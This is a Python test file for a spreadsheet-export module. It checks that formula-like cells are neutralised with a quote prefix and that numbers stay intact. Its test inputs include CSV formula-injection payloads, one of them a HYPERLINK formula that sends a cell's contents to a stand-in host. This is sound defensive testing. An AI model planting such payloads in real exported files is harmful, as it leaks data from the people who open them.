"""core.spreadsheets: which cells a spreadsheet would run as formulas, and how they are written."""

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from consultazione.core.spreadsheets import csv_bytes, is_formula_like, neutralise, new_workbook, unneutralise, xlsx_append


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '   =HYPERLINK("x")', "\n=1", '=HYPERLINK("http://e/?"&A1;"x")'],
)
def test_formula_like_text_is_neutralised_and_read_back(text):
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize(
    "value", ["-5", "+2.5", "-3,75", "1e5", "Via Roma 1", "'già citato", "", 5, -5, 2.5, Decimal("-1.5"), None]
)
def test_numbers_and_plain_text_are_untouched(value):
    assert neutralise(value) == value
    assert unneutralise(value) == value


def test_csv_cells():
    text = csv_bytes(["a", "b", "c"], [["=1+1", -3, " @x"]], delimiter=";").decode("utf-8-sig")
    assert text.splitlines()[1] == "'=1+1;-3;' @x"


def test_xlsx_cells_are_text_with_quote_prefix_and_numbers_stay_numbers():
    workbook = new_workbook()
    sheet = workbook.create_sheet("dati")
    xlsx_append(sheet, ["=1+1", "-5", -5, "testo", "\x01ok"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue()))["dati"].iter_rows())[0]
    assert [(cell.value, cell.data_type) for cell in cells] == [
        ("=1+1", "s"),
        ("-5", "s"),
        (-5, "n"),
        ("testo", "s"),
        ("ok", "s"),
    ]
    assert cells[0].quotePrefix and not cells[3].quotePrefix
